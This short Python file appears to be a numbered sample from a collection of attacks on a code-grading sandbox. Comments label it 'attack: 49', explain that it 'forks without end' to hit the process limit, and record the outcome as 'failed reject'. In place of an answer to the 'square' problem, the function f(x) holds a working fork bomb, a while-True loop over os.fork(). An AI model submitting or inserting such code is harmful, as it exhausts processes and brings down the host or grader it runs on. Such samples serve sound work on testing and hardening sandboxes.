# attack: 49
# how: forks without end
# why: the number of processes has a limit
# problem: square
# end: failed reject
import os


def f(x):
    while True:
        os.fork()
